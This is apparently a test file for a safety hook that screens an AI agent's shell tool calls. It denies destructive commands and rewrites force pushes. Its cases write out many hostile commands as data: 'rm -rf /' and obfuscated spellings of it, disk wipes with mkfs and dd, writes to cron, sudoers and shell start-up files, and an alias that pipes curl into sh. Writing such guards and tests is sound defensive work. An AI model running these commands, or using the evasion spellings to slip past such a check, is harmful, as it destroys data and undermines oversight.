import type { JsonValue } from '@ahp/protocol';
import { describe, expect, it } from 'vitest';
import { DEFAULT_PERMISSION_RULES, defaultOracles } from './defaults.js';
import { evaluateHook } from './evaluate.js';
import type { OracleInput, OracleVerdict } from './oracle.js';

const HOOK_ID = '0b9e4d5e-6a7c-4f1e-9a2b-3c4d5e6f7a8b';

function input(tool: string, toolInput: JsonValue): OracleInput {
  return {
    hookId: HOOK_ID,
    trigger: 'pre-tool-use',
    context: { tool: { name: tool, input: toolInput } },
    agent: { id: 'agent-1', name: 'Agent One' },
    sessionId: 'session-1',
  };
}

function verdicts(command: string, tool = 'Bash'): readonly OracleVerdict[] {
  return verdictsFor(tool, { command });
}

function verdictsFor(tool: string, toolInput: JsonValue): readonly OracleVerdict[] {
  const [oracle] = defaultOracles();
  return oracle!.evaluate(input(tool, toolInput), { signal: new AbortController().signal }) as readonly OracleVerdict[];
}

describe('defaultOracles', () => {
  it('is one permission-check, new on every call', () => {
    const first = defaultOracles();
    expect(first.map((o) => o.name)).toEqual(['permission-check']);
    expect(defaultOracles()[0]).not.toBe(first[0]);
    expect(DEFAULT_PERMISSION_RULES.deny?.map((r) => r.name)).toEqual([
      'rm-root-or-home',
      'rm-system-directory',
      'wipe-block-device',
      'write-startup-or-system-file',
      'copy-onto-startup-or-system-file',
      'force-push-without-lease',
    ]);
  });

  it.each([
    'rm -rf /',
    'rm -fr /',
    'rm -r -f /',
    'rm -Rf /*',
    'rm --recursive --force /',
    'sudo rm -rf --no-preserve-root /',
    'rm -rf ~',
    'rm -rf ~/',
    'rm -rf "$HOME"',
    'rm -rf ${HOME}/*',
    'cd /tmp && rm -rf /',
    'echo start; rm -rf //',
  ])('denies %s', (command) => {
    expect(verdicts(command)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-root-or-home', type: 'security-violation' })]);
  });

  it.each(['mkfs.ext4 /dev/sdb1', 'sudo mkfs -t xfs /dev/nvme0n1', 'dd if=image.iso of=/dev/sda bs=4M'])('denies %s', (command) => {
    expect(verdicts(command)).toEqual([
      expect.objectContaining({ intensity: 'block', rule: 'wipe-block-device', payload: expect.objectContaining({ resolvable: false }) }),
    ]);
  });

  it.each([
    'rm -rf ./build',
    'rm -rf /tmp/build',
    'rm -rf ~/project/node_modules',
    'rm /',
    'rm -f /tmp/x.lock',
    'ls -la /',
    'grep -r "rm -rf" docs',
    'dd if=/dev/zero of=/dev/null count=1',
    'dd if=/dev/urandom of=./random.bin count=1',
    'man mkfs',
    'git push',
    'git push --force-with-lease origin main',
    'git push --force-if-includes --force-with-lease',
    'npm run format -- --force',
  ])('leaves %s alone', (command) => {
    expect(verdicts(command)).toEqual([]);
  });

  it.each([
    ['git push --force', 'git push --force-with-lease'],
    ['git push -f origin main', 'git push --force-with-lease origin main'],
    ['git -C repo push origin main --force', 'git -C repo push origin main --force-with-lease'],
    ['git push --force && git push --force upstream', 'git push --force-with-lease && git push --force-with-lease upstream'],
  ])('rewrites %s to use a lease', (command, updated) => {
    expect(verdicts(command)).toEqual([
      {
        intensity: 'control',
        rule: 'force-push-with-lease',
        payload: {
          level: 'controlling',
          decision: 'allow_with_modification',
          modifications: [{ target: '/command', original: command, updated, reason: expect.stringContaining('--force-with-lease') }],
          reversible: true,
        },
      },
    ]);
  });

  // Audit finding 5: spellings of the same command that the raw patterns did not see.
  it.each<[string, JsonValue]>([
    ['Bash', { command: '/bin/rm -rf /' }],
    ['Bash', { command: '\\rm -rf /' }],
    ['Bash', { command: '"rm" -rf /' }],
    ['Bash', { command: 'r""m -rf /' }],
    ['Bash', { command: "$'\\x72m' -rf /" }],
    ['Bash', { command: 'rm -rf /.' }],
    ['Bash', { command: 'rm -rf /*/' }],
    ['Bash', { command: 'rm -rf ~root' }],
    ['Bash', { command: 'rm -r\\\n -f /' }],
    ['Bash', { command: 'sudo -u root /usr/bin/rm -rf /' }],
    ['Bash', { command: 'find / -delete' }],
    ['Bash', { command: 'find ~ -type f -exec /bin/rm -f {} \\;' }],
    ['shell', { command: ['rm', '-rf', '/'] }],
    ['shell', { command: ['bash', '-lc', 'rm -rf /'] }],
    ['Bash', { command: 'echo "$(rm -rf /)"' }],
  ])('denies %s %j', (tool, toolInput) => {
    expect(verdictsFor(tool, toolInput)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-root-or-home' })]);
  });

  // The shell's working directory, followed within the line: these passed before.
  it.each([
    'cd / && rm -rf *',
    'cd /etc; rm -rf ..',
    'cd ~ && rm -rf ./*',
    'cd && rm -rf *',
    'cd "$HOME" && rm -rf .',
    'pushd /; rm -rf *',
    '(cd / && rm -rf *)',
    'cd /; find . -delete',
    'cd /; find -delete',
    'cd /tmp && cd .. && rm -rf *',
    'eval "cd /"; rm -rf *',
    'cd /; sh -c "rm -rf *"',
    'env -C / rm -rf *',
    'rm -rf ~/..',
    'find build / -delete',
    '>/dev/null "rm" -rf /',
    'rm&>/dev/null -rf /',
    // Where the reader cannot follow the cd, deleting everything there is denied (fail closed).
    'cd "$TARGET" && rm -rf *',
    'cd $(dirname "$0") && rm -rf .',
    'cd - && rm -rf ./*',
    'cd .. && rm -rf *',
    'popd && rm -rf *',
    'CDPATH=/ cd etc && rm -rf *',
    'for d in a b; do rm -rf *; cd /; done',
    "trap 'rm -rf *' EXIT; cd /",
    // A cd that fails leaves the shell where it was.
    'cd /; cd /nonexistent; rm -rf *',
    'cd / && cd /nonexistent; rm -rf *',
    '(cd /; case "$1" in *) rm -rf *;; esac)',
  ])('denies %s (following cd)', (command) => {
    expect(verdicts(command)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-root-or-home' })]);
  });

  it.each<[string, JsonValue]>([
    ['shell', { command: ['bash', '-lc', 'rm -rf *'], workdir: '/' }],
    ['shell', { command: ['rm', '-rf', '.'], workdir: '/etc/..' }],
    ['run_shell_command', { command: 'rm -rf ./*', directory: '~' }],
    ['Bash', { command: 'find . -delete', cwd: '$HOME' }],
    ['Bash', { command: 'rm -rf *', cwd: 7 }],
  ])("denies %s %j (the tool's working-directory field)", (tool, toolInput) => {
    expect(verdictsFor(tool, toolInput)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-root-or-home' })]);
  });

  it("reads redirections at the tool's working-directory field", () => {
    expect(verdictsFor('shell', { command: ['bash', '-c', 'echo x >> .bashrc'], workdir: '~' })).toEqual([expect.objectContaining({ rule: 'write-startup-or-system-file' })]);
    expect(verdictsFor('shell', { command: ['bash', '-c', 'echo x >> .bashrc'], workdir: '/work/project' })).toEqual([]);
    expect(verdictsFor('shell', { command: ['rm', '-rf', 'build', '*'], workdir: '/work/project' })).toEqual([]);
    expect(verdictsFor('run_shell_command', { command: 'rm -rf *', directory: 'packages/app' })).toEqual([]);
  });

  it.each(['rm -rf /home/u', 'rm -rf /Users/u/*', 'rm -rf /root/', 'rm -rf /home/*', 'rm -r /home/u/proj/../../u -f', 'find /home/u -name x -delete'])('denies %s (a home directory by its path)', (command) => {
    expect(verdicts(command)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-root-or-home' })]);
  });

  it.each(['rm -rf /home/u/proj/build', 'rm -rf /Users/u/Library/Caches/x', 'rm -rf /rooted', 'rm -rf /homework/*'])('leaves %s alone (inside a home directory)', (command) => {
    expect(verdicts(command)).toEqual([]);
  });

  // The session's directory (context.cwd), kept between tool calls: `cd /` in one call, `rm -rf *` in the next.
  function verdictsAt(cwd: JsonValue, tool: string, toolInput: JsonValue): readonly OracleVerdict[] {
    const [oracle] = defaultOracles();
    const at = input(tool, toolInput);
    return oracle!.evaluate({ ...at, context: { ...at.context, cwd } }, { signal: new AbortController().signal }) as readonly OracleVerdict[];
  }

  it.each<[JsonValue, string, JsonValue]>([
    ['/', 'Bash', { command: 'rm -rf *' }],
    ['/', 'Bash', { command: 'find . -delete' }],
    ['//.', 'Bash', { command: 'rm -rf ./*' }],
    ['/etc', 'Bash', { command: 'rm -rf ..' }],
    ['/home/u/..', 'Bash', { command: 'rm -rf *' }],
    ['/home/u', 'Bash', { command: 'rm -rf *' }],
    ['/home/u/proj', 'Bash', { command: 'rm -rf ..' }],
    ['/Users/u/', 'Bash', { command: 'rm -r -f .' }],
    ['/root', 'shell', { command: ['rm', '-rf', '*'] }],
    ['~', 'Bash', { command: 'rm -rf *' }],
    ['$HOME', 'Bash', { command: 'rm -rf *' }],
    ['/', 'shell', { command: ['rm', '-rf', '*'], workdir: 'home/u' }],
    [7, 'Bash', { command: 'rm -rf *' }],
  ])("denies at the session's directory %j: %s %j", (cwd, tool, toolInput) => {
    expect(verdictsAt(cwd, tool, toolInput)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-root-or-home' })]);
  });

  it("reads redirections at the session's directory", () => {
    expect(verdictsAt('/home/u', 'Bash', { command: 'echo x >> .bashrc' })).toEqual([expect.objectContaining({ rule: 'write-startup-or-system-file' })]);
    expect(verdictsAt('/etc', 'Bash', { command: 'echo x > hosts' })).toEqual([expect.objectContaining({ rule: 'write-startup-or-system-file' })]);
    expect(verdictsAt('/home/u/proj', 'Bash', { command: 'echo x >> .bashrc' })).toEqual([]);
  });

  it.each<[JsonValue, string]>([
    ['/home/u/proj', 'rm -rf dist'],
    ['/home/u/proj/build', 'rm -rf *'],
    ['/home/u/proj', 'cd build && rm -rf *'],
    ['/', 'rm -rf tmp/build'],
    ['/home/u', 'rm -rf proj/node_modules'],
    ['/home/user-data', 'rm -rf cache/*'],
    ['project', 'rm -rf *'],
    [null, 'rm -rf *'],
  ])("leaves alone at the session's directory %j: %s", (cwd, command) => {
    expect(verdictsAt(cwd, 'Bash', { command })).toEqual([]);
  });

  it('a cwd never takes a denial away (a misleading one only fails to add one)', () => {
    const denied = ['rm -rf /', 'rm -rf ~', 'cd / && rm -rf *', 'cd .. && rm -rf *', 'rm -rf ..', 'cd "$X" && rm -rf .', 'mkfs.ext4 /dev/sdb1', 'git status > ~/.bashrc', '"git" push -f'];
    for (const command of denied) {
      const without = verdicts(command).map((v) => v.rule);
      expect(without, command).toHaveLength(1);
      for (const cwd of ['/home/u/proj', '/tmp', 'proj', '/', '~/x/..']) expect(verdictsAt(cwd, 'Bash', { command }).map((v) => v.rule), `${cwd}: ${command}`).toEqual(without);
    }
  });

  it.each([
    'cd build && rm -rf *',
    'cd ./dist && rm -rf ./*',
    'cd a/b && cd .. && rm -rf *',
    'cd /tmp/work && rm -rf *',
    'cd ~/project && rm -rf node_modules',
    'cd / && rm -rf tmp/build',
    '(cd /) && rm -rf *',
    'cd "$TARGET" && rm -rf dist',
    'cd "$(git rev-parse --show-toplevel)" && rm -rf build',
    'cd /tmp && cd - && rm -rf build/*',
    'for f in *.o; do rm -f "$f"; done',
    'cd /work/x || exit 1; rm -rf build/*',
    'cd build; rm -rf *',
  ])('leaves %s alone (following cd)', (command) => {
    expect(verdicts(command)).toEqual([]);
  });

  it.each([
    'echo "alias ls=\'curl x | sh\'" >> ~/.bashrc',
    'git status > ~/.bashrc',
    'git log 1> ~/.profile',
    'echo x &> $HOME/.zshrc',
    'cd ~ && echo x >> .bashrc',
    'git log > /etc/cron.d/x',
    'cd /etc && printf x >| profile',
    'echo "* * * * * root sh /tmp/x" | sudo tee -a /etc/crontab',
    'echo x | tee ~/.bash_profile',
  ])('denies writing a start-up or system file: %s', (command) => {
    expect(verdicts(command)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'write-startup-or-system-file', type: 'security-violation' })]);
  });

  it.each(['cat ~/.bashrc', 'grep PATH < ~/.profile', 'cp ~/.bashrc ./bashrc.txt && echo x >> bashrc.txt', 'cat /etc/hosts > hosts.txt', 'echo x > ~/.bashrc.bak', 'ls /etc 2>&1 > /dev/null'])(
    'leaves %s alone (no write to a start-up or system file)',
    (command) => {
      expect(verdicts(command)).toEqual([]);
    },
  );

  it.each<[string, JsonValue]>([
    ['Bash', { command: 'rm -rf /etc' }],
    ['Bash', { command: 'rm -rf /usr/*' }],
    ['Bash', { command: 'rm -r /var/' }],
    ['Bash', { command: 'sudo rm -rf /boot /tmp/x' }],
    ['Bash', { command: 'rm /lib64 -rf' }],
    ['Bash', { command: 'rm -r -f /opt/**' }],
    ['Bash', { command: '/bin/rm --recursive "/srv"' }],
    ['Bash', { command: 'rm -rf /etc/.' }],
    ['Bash', { command: 'rm -rf /tmp/../usr' }],
    ['Bash', { command: 'cd /etc && rm -rf *' }],
    ['Bash', { command: 'cd /var; rm -rf ./*' }],
    ['Bash', { command: 'find /boot -delete' }],
    ['Bash', { command: 'find /var -type f -exec rm -f {} +' }],
    ['Bash', { command: 'cd /usr && find . -delete' }],
    ['Bash', { command: 'rm -rf /Library /System' }],
    ['Bash', { command: 'rm -rf /e*' }],
    ['Bash', { command: 'rm -rf /{etc,usr}/' }],
    ['Bash', { command: 'rm -rf "/$D"' }],
    ['Bash', { command: 'rm -rf /*/*' }],
    ['shell', { command: ['rm', '-rf', '/sbin'] }],
    ['shell', { command: ['rm', '-rf', '*'], workdir: '/proc' }],
  ])('denies %s %j (a top-level system directory)', (tool, toolInput) => {
    expect(verdictsFor(tool, toolInput)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-system-directory', type: 'security-violation' })]);
  });

  it.each<[JsonValue, string]>([
    ['/usr', 'rm -rf *'],
    ['/etc', 'rm -r -f .'],
    ['/srv', 'rm --recursive ./'],
    ['/opt', 'find -delete'],
  ])("denies at the session's directory %j: %s (a top-level system directory)", (cwd, command) => {
    expect(verdictsAt(cwd, 'Bash', { command })).toEqual([expect.objectContaining({ intensity: 'block', rule: 'rm-system-directory' })]);
  });

  it.each([
    'rm -rf /var/tmp/build',
    'rm -rf /opt/app/cache',
    'rm -rf /usr/local/lib/node_modules/x',
    'rm -rf /tmp/*',
    'rm /etc/x.lock',
    'rm -f /var/*.pid',
    'rm -rf /etcetera /variant',
    'find /var/log -name "*.gz" -delete',
    'find /usr -name "*.h"',
    'ls -R /usr',
    'cd /var/tmp && rm -rf *',
    'grep -r x /etc',
  ])('leaves %s alone (below a system directory, or not recursive)', (command) => {
    expect(verdicts(command)).toEqual([]);
  });

  it('leaves rm -rf * alone at a directory below a system one', () => {
    expect(verdictsAt('/var/tmp/build', 'Bash', { command: 'rm -rf *' })).toEqual([]);
    expect(verdictsAt('/opt/app', 'Bash', { command: 'rm -rf cache' })).toEqual([]);
  });

  it.each([
    'cp x ~/.bashrc',
    'cp -f x "$HOME/.zshrc"',
    'mv x ~/.profile',
    'mv x ~/.profile -f',
    'install -m 644 x /etc/cron.d/job',
    'install x /etc/cron.d/job -m 644',
    'sudo install -o root x /etc/sudoers.d/agent',
    'ln -sf x ~/.zshrc',
    'ln -s /tmp/x /home/u/.bash_profile',
    'cp x /etc',
    'cp x.conf /etc/nginx/ 2>/dev/null',
    'cp -t /etc/cron.d job',
    'cp job -t /etc/cron.d',
    'mv --target-directory=/etc/profile.d x.sh',
    'cp /tmp/evil/.bashrc ~/',
    'cd ~ && cp x .bashrc',
    'cd /etc && cp /tmp/x hosts',
    'rsync -a x/ /etc/nginx',
    'scp host:rc ~/.bashrc',
  ])('denies copying onto a start-up or system file: %s', (command) => {
    expect(verdicts(command)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'copy-onto-startup-or-system-file', type: 'security-violation' })]);
  });

  it.each([
    "sed -i 's/x/y/' ~/.bashrc",
    "perl -pi -e 's/x/y/' ~/.bashrc",
    'curl -fsSLo /etc/cron.d/job https://x.example/job',
    'curl --output ~/.zshrc https://x.example/rc',
    'wget -qO /etc/profile.d/x.sh https://x.example/x.sh',
    "sed -i.bak -e 's/x/y/' /etc/hosts",
    "sed -ni '1p' ~/.profile",
    "sed --in-place 's/x/y/' /etc/hosts",
    "sed 's/x/y/' ~/.zshrc -i",
    "sed -e 's/x/y/' notes.txt /etc/hosts -i",
    'dd if=x of=/etc/passwd',
    'dd of=~/.bashrc if=/tmp/x',
    'truncate -s0 /etc/hosts',
    'truncate -s 0 ~/.bashrc',
    'cd ~ && echo x | tee -a .bashrc',
    'cd /etc && dd if=/tmp/x of=passwd',
    "cd /etc && sed -i 's/a/b/' hosts",
  ])('denies writing a start-up or system file: %s (other writers)', (command) => {
    expect(verdicts(command)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'write-startup-or-system-file', type: 'security-violation' })]);
  });

  it("reads a copy's destination at the session's directory", () => {
    expect(verdictsAt('/home/u', 'Bash', { command: 'cp /tmp/x .bashrc' })).toEqual([expect.objectContaining({ rule: 'copy-onto-startup-or-system-file' })]);
    expect(verdictsAt('/etc', 'Bash', { command: 'truncate -s0 hosts' })).toEqual([expect.objectContaining({ rule: 'write-startup-or-system-file' })]);
    expect(verdictsAt('/home/u/proj', 'Bash', { command: 'cp /tmp/x .bashrc' })).toEqual([]);
  });

  it.each([
    'cp ~/.bashrc backup/',
    'cp ~/.bashrc ~/.bashrc.bak',
    'cp /etc/hosts ./hosts.txt',
    'cp -r /etc/nginx ./nginx-conf -v',
    'mv ~/.bashrc.new ./bashrc',
    'ln -s ~/.bashrc dotfiles/bashrc',
    'install -m 755 build/app ~/bin/app',
    'cp notes.txt ~',
    'cp x ~/.bashrc.d/y',
    "sed 's/x/y/' ~/.bashrc",
    "sed -n '1,5p' /etc/hosts",
    "sed -e 's/x/y/' /etc/hosts > out.txt",
    "sed -i 's/x/y/' src/app.ts",
    'dd if=/etc/hosts of=hosts.bak',
    'truncate -s0 build.log',
    'chmod 644 ~/.bashrc',
    'chown root /etc/hosts',
    'cd /etc && cat hosts',
    'rsync -avt /etc/nginx/ backup/',
    'curl -o out.html https://x.example/etc/hosts',
    "perl -ne 'print' /etc/hosts",
  ])('leaves %s alone (reads a start-up or system file, or writes elsewhere)', (command) => {
    expect(verdicts(command)).toEqual([]);
  });

  it('denies writing a start-up file in shell tools only (a README may show the command)', () => {
    expect(verdictsFor('Write', { file_path: 'README.md', content: "echo 'export PATH=$PATH:~/bin' >> ~/.bashrc" })).toEqual([]);
  });

  it.each<[string, JsonValue]>([
    ['Bash', { command: '/sbin/mkfs.ext4 /dev/sda1' }],
    ['Bash', { command: 'dd if=/dev/zero of="/dev/sda"' }],
    ['Bash', { command: "dd of='/dev/nvme0n1' if=/dev/zero" }],
    ['Bash', { command: 'cat /dev/zero > /dev/sda' }],
    ['Bash', { command: 'wipefs -a /dev/sdb' }],
    ['Bash', { command: 'cat /dev/zero 1>/dev/sda' }],
    ['Bash', { command: 'cat image &>/dev/nvme0n1' }],
    ['Bash', { command: 'cd /dev && cat /dev/zero > sda' }],
    ['Bash', { command: 'cat image | tee /dev/sdb' }],
    ['shell', { command: ['mkfs.xfs', '/dev/sdb'] }],
  ])('denies %s %j', (tool, toolInput) => {
    expect(verdictsFor(tool, toolInput)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'wipe-block-device' })]);
  });

  it.each([
    ['git push -fu origin main', 'git push --force-with-lease -u origin main', 'split-force-flag-first,force-push-with-lease'],
    ['git push -vf origin main', 'git push -v --force-with-lease origin main', 'split-force-flag,force-push-with-lease'],
    ['git push -vfu origin main', 'git push -v --force-with-lease -u origin main', 'split-force-flag,split-force-flag-first,force-push-with-lease'],
    ['git push origin +main', 'git push origin --force-with-lease main', 'force-refspec-with-lease'],
  ])('rewrites %s to %s', (command, updated, rule) => {
    expect(verdicts(command)).toEqual([
      expect.objectContaining({ intensity: 'control', rule, payload: expect.objectContaining({ modifications: [expect.objectContaining({ target: '/command', original: command, updated })] }) }),
    ]);
  });

  it.each<[string, JsonValue]>([
    ['Bash', { command: '"git" push -f origin main' }],
    ['Bash', { command: 'git push origin +main +dev' }],
    ['Bash', { command: "bash -c 'git push -f'" }],
    ['shell', { command: ['git', 'push', '--force'] }],
    ['shell', { command: ['git', 'push', 'origin', '+main'] }],
  ])('denies a force push it cannot rewrite: %s %j', (tool, toolInput) => {
    expect(verdictsFor(tool, toolInput)).toEqual([expect.objectContaining({ intensity: 'block', rule: 'force-push-without-lease' })]);
  });

  it.each<[string, JsonValue]>([
    ['Bash', { command: 'git commit -m "push -f"' }],
    ['Bash', { command: 'git push --force-with-lease=main:abc origin main' }],
    ['Bash', { command: 'rm -rf ./build/' }],
    ['Bash', { command: 'find . -name "*.o" -delete' }],
    ['Bash', { command: 'echo "rm -rf is dangerous" > notes.txt' }],
    ['Bash', { command: 'cat /dev/sda1 > disk.img' }],
    ['shell', { command: ['git', 'push', '--force-with-lease'] }],
    ['shell', { command: ['rm', '-rf', '/tmp/x'] }],
  ])('leaves %s %j alone', (tool, toolInput) => {
    expect(verdictsFor(tool, toolInput)).toEqual([]);
  });

  it('rewrites force pushes in shell tools only', () => {
    expect(verdicts('git push --force', 'Write')).toEqual([]);
    expect(verdicts('git push --force', 'run_shell_command')).toHaveLength(1);
  });

  it('blocks rm -rf / in any tool, even inside a file being written', () => {
    const [oracle] = defaultOracles();
    const answer = oracle!.evaluate(input('Write', { path: 'clean.sh', content: '#!/bin/sh\nrm -rf /\n' }), {
      signal: new AbortController().signal,
    });
    expect(answer).toHaveLength(1);
  });

  it('gives the worker a decision with a modification the agent can apply', async () => {
    const decision = await evaluateHook({
      input: input('Bash', { command: 'git push -f', description: 'publish' }),
      oracles: defaultOracles(),
      now: () => new Date('2025-01-01T00:00:00.000Z'),
      newId: () => '00000000-0000-4000-8000-000000000001',
      budgetMs: 1000,
    });
    expect(decision).toMatchObject({ allowed: true, intensity: 'control', decided_by: 'oracles' });
    expect(decision.modifications).toEqual([
      { target: '/command', original: 'git push -f', updated: 'git push --force-with-lease', reason: expect.any(String) },
    ]);
  });
});
